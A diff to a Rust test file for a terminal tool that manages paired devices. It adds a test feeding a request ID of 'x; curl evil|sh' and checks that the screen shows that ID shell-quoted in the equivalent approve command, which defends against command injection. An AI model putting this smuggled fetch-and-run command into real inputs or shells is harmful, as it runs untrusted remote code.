@@ -1,6 +1,6 @@
 //! Paired devices by keys: renamed, given new tokens, forgotten.
 
-use super::fixtures::*;
+use super::{fixtures::*, terminal::draw};
 use crate::{
     fleet::pairing::PairedDevice,
     ops::{Event, pairings::Change},
@@ -58,4 +58,18 @@ fn a_request_has_no_name_of_ours_and_an_empty_name_is_none() {
     key(&mut state, "n");
     send(&mut state, Message::Key(Key::Ctrl('u')));
     assert_eq!(send(&mut state, Message::Key(Key::Enter)), []);
+}
+
+/// Somebody copies the line into a shell.
+#[test]
+fn a_request_is_no_command_however_it_calls_itself() {
+    let mut state = ready();
+    let mut request = state.pending()[0].clone();
+    request.request_id = "x; curl evil|sh".into();
+    send(&mut state, Message::Event(Event::PairingRequested { request }));
+    key(&mut state, "4");
+    let at = state.pending().iter().position(|request| request.request_id.contains("evil")).unwrap();
+    key(&mut state, &"j".repeat(at));
+    let shown = draw(&state, 200, 60);
+    assert!(shown.contains("same as: claw devices approve 'x; curl evil|sh'"), "{shown}");
 }
